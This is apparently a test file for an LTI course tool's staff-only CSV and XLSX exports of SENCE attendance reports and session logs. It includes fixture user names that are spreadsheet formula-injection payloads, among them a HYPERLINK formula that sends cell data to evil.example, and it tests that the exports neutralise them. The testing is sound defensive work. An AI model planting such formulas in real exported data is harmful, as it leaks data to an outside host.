/**
 * Issue #9, item 4: the report and the session log exported as CSV (UTF-8 BOM, `;`, Santiago
 * times) and XLSX, read back cell by cell; formula neutralisation; staff only.
 */
import ExcelJS from 'exceljs';
import { launchAs, type Launch } from '../support/lti-flow';
import { senceRoundTrip } from '../support/sence-flow';
import { startTestSystem, type TestSystem } from '../support/test-system';
import { parseCsv } from '../support/csv';
import { DEMO_USERS } from '../../src/simulators/lms';
import { DEMO_SENCE_COURSE } from '../../src/simulators/sence';

let sys: TestSystem;
let diego: Launch;
// 15 January 2026, 13:00 UTC = 10:00 in Santiago (summer time, UTC−3).
let clock = Date.UTC(2026, 0, 15, 13, 0, 0);
const HOSTILE = [
  { id: 'x1', name: '=HYPERLINK("http://evil.example/?"&A1,"clic")', givenName: '=HYPERLINK', familyName: 'x', email: 'x1@example.cl', role: 'learner' as const, customRut: null, sourcedId: '' },
  { id: 'x2', name: ' \n+SUM(1,2)', givenName: '+SUM', familyName: 'y', email: 'x2@example.cl', role: 'learner' as const, customRut: null, sourcedId: '' },
  { id: 'x3', name: '@cmd', givenName: '@cmd', familyName: 'z', email: 'x3@example.cl', role: 'learner' as const, customRut: null, sourcedId: '' },
];

beforeAll(async () => {
  sys = await startTestSystem({}, { now: () => new Date(clock), lms: { users: [...DEMO_USERS, ...HOSTILE] } });
  sys.sence!.setClock(() => new Date(clock));
  const ana = await launchAs(sys, 'ana');
  await senceRoundTrip(sys, ana.client, ana.ltik, 'start');
  clock += 65 * 60_000 + 30_000; // 1 h 5 min 30 s later
  await senceRoundTrip(sys, ana.client, ana.ltik, 'close');
  diego = await launchAs(sys, 'diego');
});
afterAll(async () => {
  await sys?.stop();
});

/** A download as the browser does it: the ltik in the link, the launch's cookies (binary body kept). */
const get = (path: string, launch = diego) => {
  const url = `${sys.url}${path}?ltik=${encodeURIComponent(launch.ltik)}`;
  const cookie = [...launch.client.cookies(url).entries()].map(([k, v]) => `${k}=${v}`).join('; ');
  return fetch(url, { headers: cookie ? { cookie } : {} });
};
const courseKey = () => ({ issuer: sys.lms!.issuer, clientId: sys.lms!.clientId, contextId: sys.lms!.course.contextId });

async function readXlsx(res: Response): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ExcelJS.Buffer);
  return wb.worksheets[0]!;
}
const cells = (ws: ExcelJS.Worksheet, row: number): unknown[] => {
  const out: unknown[] = [];
  ws.getRow(row).eachCell({ includeEmpty: true }, (c, col) => { out[col - 1] = c.value; });
  return out;
};

describe('report export', () => {
  it('CSV: UTF-8 with BOM, ";" separator, the SENCE columns, Spanish words, decimal comma', async () => {
    const res = await get('/lti/staff/export/report.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename=asistencia-sence-reporte-curso-demo-sence-2026-01-15.csv');
    const bytes = Buffer.from(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(['RUN', 'Nombre', 'CodigoCurso', 'CodSence', 'LineaCapacitacion', 'Estado', 'Horas acreditadas', 'Tiempo acreditado (h:mm:ss)', '% horas requeridas', 'Marca de acceso', 'Sesiones', 'Sesiones cerradas', 'Última sesión (hora de Santiago)', 'Último error SENCE', 'Correo']);
    const ana = rows.find((r) => r[1] === 'Ana Pérez')!;
    expect(ana).toEqual(['12345678-5', 'Ana Pérez', DEMO_SENCE_COURSE.codigoCurso, DEMO_SENCE_COURSE.codSence, String(DEMO_SENCE_COURSE.lineaCapacitacion), 'con marca de acceso', '1,09', '1:05:30', '5', 'Sí', '1', '1', '15-01-2026 11:05:30', '', 'ana.perez@example.com']);
    const elena = rows.find((r) => r[1] === 'Elena Muñoz')!;
    expect(elena.slice(0, 7)).toEqual(['15432987-0', 'Elena Muñoz', DEMO_SENCE_COURSE.codigoCurso, DEMO_SENCE_COURSE.codSence, String(DEMO_SENCE_COURSE.lineaCapacitacion), 'sin marca de acceso', '0,00']);
    expect(rows.find((r) => r[1] === 'Bruno Soto')?.[0]).toBe('sin RUN');
    expect(rows).toHaveLength(1 + 7); // ana, bruno, camila, elena + three hostile names
  });

  it('neutralises formulas in CSV and XLSX (also behind leading spaces and newlines)', async () => {
    const csv = parseCsv((await (await get('/lti/staff/export/report.csv')).text()).replace(/^\uFEFF/, ''));
    const names = csv.slice(1).map((r) => r[1]);
    expect(names).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"clic")');
    expect(names).toContain('\'+SUM(1,2)');
    expect(names).toContain('\'@cmd');
    expect(names.filter((n) => /^[=+\-@\s]/.test(n!))).toEqual([]);
    const ws = await readXlsx(await get('/lti/staff/export/report.xlsx'));
    const xnames: unknown[] = [];
    for (let r = 2; r <= ws.rowCount; r += 1) xnames.push(ws.getRow(r).getCell(2).value);
    expect(xnames).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"clic")');
    for (let r = 2; r <= ws.rowCount; r += 1) expect(ws.getRow(r).getCell(2).formula).toBeUndefined();
  });

  it('XLSX: same columns, numbers as numbers, Santiago time as a date cell', async () => {
    const res = await get('/lti/staff/export/report.xlsx');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toContain('asistencia-sence-reporte-curso-demo-sence-2026-01-15.xlsx');
    const ws = await readXlsx(res);
    expect(ws.name).toBe('Reporte');
    expect(cells(ws, 1)[0]).toBe('RUN');
    expect(cells(ws, 1)).toHaveLength(15);
    let anaRow = 0;
    for (let r = 2; r <= ws.rowCount; r += 1) if (ws.getRow(r).getCell(2).value === 'Ana Pérez') anaRow = r;
    const ana = cells(ws, anaRow);
    expect(ana.slice(0, 12)).toEqual(['12345678-5', 'Ana Pérez', DEMO_SENCE_COURSE.codigoCurso, DEMO_SENCE_COURSE.codSence, String(DEMO_SENCE_COURSE.lineaCapacitacion), 'con marca de acceso', 1.09, '1:05:30', 5, 'Sí', 1, 1]);
    expect(ana[12]).toEqual(new Date(Date.UTC(2026, 0, 15, 11, 5, 30)));
    expect(ws.getRow(anaRow).getCell(13).numFmt).toBe('dd-mm-yyyy hh:mm:ss');
  });
});

describe('session log export', () => {
  it('CSV and XLSX: one row per session with start, close, duration, IdSesionSence, cell by cell', async () => {
    const session = (await sys.stores.attendance.listCourseSessions(courseKey()))[0]!;
    const csv = parseCsv((await (await get('/lti/staff/export/sessions.csv')).text()).replace(/^\uFEFF/, ''));
    expect(csv[0]).toEqual(['RUN', 'Nombre', 'CodigoCurso', 'CodSence', 'LineaCapacitacion', 'Inicio (hora de Santiago)', 'Cierre (hora de Santiago)', 'Duración (h:mm:ss)', 'Duración (minutos)', 'IdSesionSence', 'IdSesionAlumno', 'Estado', 'Errores SENCE', 'Ambiente']);
    expect(csv).toHaveLength(2);
    expect(csv[1]).toEqual(['12345678-5', 'Ana Pérez', DEMO_SENCE_COURSE.codigoCurso, DEMO_SENCE_COURSE.codSence, String(DEMO_SENCE_COURSE.lineaCapacitacion), '15-01-2026 10:00:00', '15-01-2026 11:05:30', '1:05:30', '65', session.idSesionSence, session.idSesionAlumno, 'cerrada', '', 'pruebas']);
    const ws = await readXlsx(await get('/lti/staff/export/sessions.xlsx'));
    expect(ws.name).toBe('Sesiones');
    expect(cells(ws, 2)).toEqual(['12345678-5', 'Ana Pérez', DEMO_SENCE_COURSE.codigoCurso, DEMO_SENCE_COURSE.codSence, String(DEMO_SENCE_COURSE.lineaCapacitacion), new Date(Date.UTC(2026, 0, 15, 10, 0, 0)), new Date(Date.UTC(2026, 0, 15, 11, 5, 30)), '1:05:30', 65, session.idSesionSence, session.idSesionAlumno, 'cerrada', '', 'pruebas']);
  });
});

describe('role checks', () => {
  it.each(['/lti/staff/export/report.csv', '/lti/staff/export/report.xlsx', '/lti/staff/export/sessions.csv', '/lti/staff/export/sessions.xlsx'])('a learner downloading %s gets 403 in Spanish and no data', async (path) => {
    const ana = await launchAs(sys, 'ana');
    const res = await get(path, ana);
    expect(res.status).toBe(403);
    const body = await res.text();
    expect(body).toContain('Esta página es solo para el equipo docente del curso.');
    expect(body).not.toContain('12345678-5');
    expect(res.headers.get('content-disposition')).toBeNull();
  });
});
